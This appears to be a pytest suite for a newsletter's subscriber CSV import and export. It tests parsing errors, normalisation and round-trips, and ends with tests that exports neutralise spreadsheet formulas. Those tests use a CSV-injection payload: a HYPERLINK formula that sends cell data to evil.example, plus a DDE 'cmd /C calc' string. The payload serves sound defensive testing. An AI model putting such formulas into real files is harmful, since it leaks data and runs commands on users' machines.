from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from digest.audience.csv_import import (
    EXPORT_COLUMNS,
    InvalidSubscriber,
    export_csv,
    new_subscriber,
    parse_subscribers_csv,
    read_subscribers_csv,
)
from digest.models import Subscriber, SubscriberStatus
from tests.conftest import SAMPLE

SECTIONS = {"diplomacy-watch", "qiosk", "analysis"}
DIGESTS = {"weekly", "daily"}


def test_sample_list_is_clean() -> None:
    people, problems = parse_subscribers_csv(
        (SAMPLE / "subscribers.csv").read_text(encoding="utf-8"),
        known_sections=SECTIONS,
        known_digests=DIGESTS,
    )
    assert problems == []
    assert len(people) == 12
    assert any(p.sections == {"qiosk"} for p in people)
    assert any(p.name == "Zoë Müller" for p in people)
    assert all(p.digests is None for p in people)  # no digests column: every digest


def test_bad_rows_are_reported_with_line_numbers() -> None:
    text = (
        "\ufeffEmail,Name,Sections\n"
        "ok@example.org,  Ana   Lima ,\n"
        "not-an-address,Bad,\n"
        "OK@example.org,Twice,\n"
        "c@example.org,C,qiosk;sport\n"
        "d@example.org,D,qiosk; analysis\n"
    )
    people, problems = parse_subscribers_csv(text, known_sections=SECTIONS)
    assert [p.email for p in people] == ["ok@example.org", "d@example.org"]
    assert people[0].name == "Ana Lima" and people[0].sections is None
    assert people[1].sections == {"qiosk", "analysis"}
    assert [(p.line, p.message.split(":")[0]) for p in problems] == [
        (3, "'not-an-address'"),
        (4, "OK@example.org"),
        (5, "c@example.org"),
    ]
    assert "first on line 2" in problems[1].message
    assert "sport" in problems[2].message


def test_digests_column() -> None:
    text = (
        "email,name,sections,digests\n"
        "a@example.org,A,,weekly\n"
        "b@example.org,B,qiosk,weekly; daily\n"
        "c@example.org,C,,\n"
        "d@example.org,D,,monthly;weekly\n"
        "e@example.org,E,,;\n"
    )
    people, problems = parse_subscribers_csv(text, known_sections=SECTIONS, known_digests=DIGESTS)
    assert [(p.email, p.digests) for p in people] == [
        ("a@example.org", {"weekly"}),
        ("b@example.org", {"weekly", "daily"}),
        ("c@example.org", None),
        ("e@example.org", None),
    ]
    assert [p.line for p in problems] == [5]
    assert "unknown digest(s) monthly" in problems[0].message
    assert "known: daily, weekly" in problems[0].message


def test_addresses_are_normalised() -> None:
    people, problems = parse_subscribers_csv(
        "email\n  Ana@EXAMPLE.org  \nana@example.ORG\n", known_sections=SECTIONS
    )
    assert [p.email for p in people] == ["Ana@example.org"]
    assert [p.line for p in problems] == [3]  # the same address, whatever the domain's case


def test_export_rows_that_are_not_active_are_skipped() -> None:
    text = (
        "email,name,status\n"
        "a@example.org,A,active\n"
        "b@example.org,B,unsubscribed\n"
        "c@example.org,C,bounced\n"
        "d@example.org,D,gone\n"
        "e@example.org,E,\n"
    )
    result = read_subscribers_csv(text, known_sections=SECTIONS)
    assert [p.email for p in result.people] == ["a@example.org", "e@example.org"]
    assert [(s.line, s.message.split(":")[0]) for s in result.skipped] == [
        (3, "b@example.org"),
        (4, "c@example.org"),
    ]
    assert [p.line for p in result.problems] == [5]
    assert "unknown status 'gone'" in result.problems[0].message


@pytest.mark.parametrize(
    "text, message",
    [
        ("name\nAna\n", "email"),
        ("", "empty file"),
        ("\n\n", "empty file"),
    ],
)
def test_header_without_email_column(text: str, message: str) -> None:
    people, problems = parse_subscribers_csv(text, known_sections=SECTIONS)
    assert people == [] and message in problems[0].message and problems[0].line == 1


def test_new_subscriber_checks_like_an_import() -> None:
    person = new_subscriber(
        " Reader@Example.ORG ",
        name=" A  Reader ",
        sections=["qiosk", " "],
        digests=[],
        known_sections=SECTIONS,
        known_digests=DIGESTS,
    )
    assert (person.email, person.name, person.sections, person.digests) == (
        "Reader@example.org",
        "A Reader",
        {"qiosk"},
        None,
    )
    with pytest.raises(InvalidSubscriber, match="unknown digest"):
        new_subscriber("a@example.org", digests=["x"], known_sections=SECTIONS, known_digests=())
    with pytest.raises(InvalidSubscriber, match="'nobody'"):
        new_subscriber("nobody", known_sections=SECTIONS)


def test_export_reads_back() -> None:
    when = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
    people = [
        Subscriber(id=1, email="a@example.org", name='Lima, "Ana"', source="signup"),
        Subscriber(
            id=2,
            email="b@example.org",
            sections=frozenset({"qiosk", "analysis"}),
            digests=frozenset({"weekly"}),
            status=SubscriberStatus.PAUSED,
        ),
    ]
    text = export_csv(people, {1: (when, when)})
    lines = text.splitlines()
    assert lines[0] == ",".join(EXPORT_COLUMNS)
    assert lines[1] == 'a@example.org,"Lima, ""Ana""",active,,,signup,2026-11-30T12:00:00Z,' + (
        "2026-11-30T12:00:00Z"
    )
    assert lines[2] == "b@example.org,,paused,analysis;qiosk,weekly,,,"
    result = read_subscribers_csv(text, known_sections=SECTIONS, known_digests=DIGESTS)
    assert [(p.email, p.name, p.sections, p.digests) for p in result.people] == [
        ("a@example.org", 'Lima, "Ana"', None, None)
    ]
    assert [s.line for s in result.skipped] == [3] and result.problems == []


# A stray quote, a value spanning lines, a wrong number of fields --------------------------------
STRAY_QUOTE = (
    "email,name\n"
    "a@example.com,Ann\n"
    'b@example.com,"Bob\n'  # line 3: the quote is never closed
    "c@example.com,Cat\n"
    "d@example.com,Dan\n"
    "e@example.com,Eve\n"
)


def test_a_stray_quote_is_one_rejected_line_and_the_next_rows_are_their_own() -> None:
    result = read_subscribers_csv(STRAY_QUOTE, known_sections=SECTIONS)
    assert [(p.email, p.name) for p in result.people] == [
        ("a@example.com", "Ann"),
        ("c@example.com", "Cat"),
        ("d@example.com", "Dan"),
        ("e@example.com", "Eve"),
    ]
    assert [p.line for p in result.problems] == [3]
    assert "quote" in result.problems[0].message
    assert result.lines == 5


def test_a_value_spanning_lines_and_wrong_field_counts_are_rejected_lines() -> None:
    text = (
        "email,name\n"
        "\n"
        'a@example.org,"Ana\n'  # 3: a value may not span lines
        'Lima"\n'  # 4: one field where the header has two
        "bad,X\n"  # 5: not an address
        "b@example.org,Lima, Ana\n"  # 6: three fields
        "c@example.org\n"  # 7: one field
        'd@example.org,"Dee" D\n'  # 8: text after a closing quote
        'e@example.org,"Eve ""E"" Smith"\n'  # 9: fine
    )
    result = read_subscribers_csv(text, known_sections=SECTIONS)
    assert [(p.email, p.name) for p in result.people] == [("e@example.org", 'Eve "E" Smith')]
    assert [p.line for p in result.problems] == [3, 4, 5, 6, 7, 8]
    assert "needs double quotes" in result.problems[3].message
    assert "1 field(s) where the header has 2" in result.problems[4].message
    assert result.lines == 7  # the blank line is not a data line


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("Bob\x00 Smith", "control character"),
        ("Bob\x1b[31m", "control character"),
        ("B" * 201, "longer than 200"),
    ],
)
def test_names_are_one_capped_line_without_control_characters(name: str, why: str) -> None:
    text = f"email,name\na@example.org,{name}\nb@example.org,B\n"
    result = read_subscribers_csv(text, known_sections=SECTIONS)
    assert [p.email for p in result.people] == ["b@example.org"]
    assert [p.line for p in result.problems] == [2] and why in result.problems[0].message
    assert "\x00" not in result.problems[0].message and "\x1b" not in result.problems[0].message
    with pytest.raises(InvalidSubscriber, match=why):
        new_subscriber("a@example.org", name=name, known_sections=SECTIONS)
    # Tabs and runs of spaces are white space: one space.
    ok = new_subscriber("a@example.org", name="\tB" * 100, known_sections=SECTIONS)
    assert ok.name == ("B " * 100).strip() and len(ok.name) <= 200


def _generated(rows: int, bad: int) -> str:
    lines = ["email,name,sections"]
    for i in range(1, rows + 1):
        name = f'"Reader {i}' if i == bad else f"Reader {i}"
        lines.append(f"reader{i}@example.org,{name},qiosk")
    return "\n".join(lines) + "\n"


def test_one_bad_row_in_ten_thousand_costs_exactly_that_row() -> None:
    result = read_subscribers_csv(_generated(10_000, bad=4_321), known_sections=SECTIONS)
    assert [p.line for p in result.problems] == [4_322]
    assert len(result.people) == 9_999 and result.lines == 10_000
    assert len(result.people) + len(result.skipped) + len(result.problems) == result.lines
    assert "Reader 4322" in {p.name for p in result.people}  # the row after it is its own
    assert all(p.name == f"Reader {p.email[6:-12]}" for p in result.people)


# Formulas in exports (OWASP's CSV injection guidance) ------------------------------------------
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")+cmd|\' /C calc\'!A0'


@pytest.mark.parametrize("first", DANGEROUS_FIRST)
def test_export_neutralises_formulas_and_import_gives_them_back(first: str) -> None:
    lead = first if first in "=+-" else "="  # what an address may start with
    people = [
        Subscriber(id=1, email="a@example.org", name=first + PAYLOAD, source="signup"),
        Subscriber(id=2, email=f"{lead}b@example.org", name=f"'{first}x"),
        Subscriber(id=3, email="c@example.org", name="'plain' quotes"),
    ]
    text = export_csv(people)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 4  # one line per row
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in DANGEROUS_FIRST, row
    # The export's own cells: one quote before what a spreadsheet would take for a formula.
    if first.strip():
        assert rows[1][1] == "'" + first + PAYLOAD
    if first in "=+-":
        assert rows[2][0] == f"'{first}b@example.org"
    assert rows[3][1] == "'plain' quotes"

    result = read_subscribers_csv(text, known_sections=SECTIONS)
    assert result.problems == []
    assert [(p.email, p.name) for p in result.people] == [
        (p.email, new_subscriber(p.email, name=p.name, known_sections=SECTIONS).name)
        for p in people
    ]
    if first.strip():  # the original values, exactly
        assert [(p.email, p.name) for p in result.people] == [(p.email, p.name) for p in people]
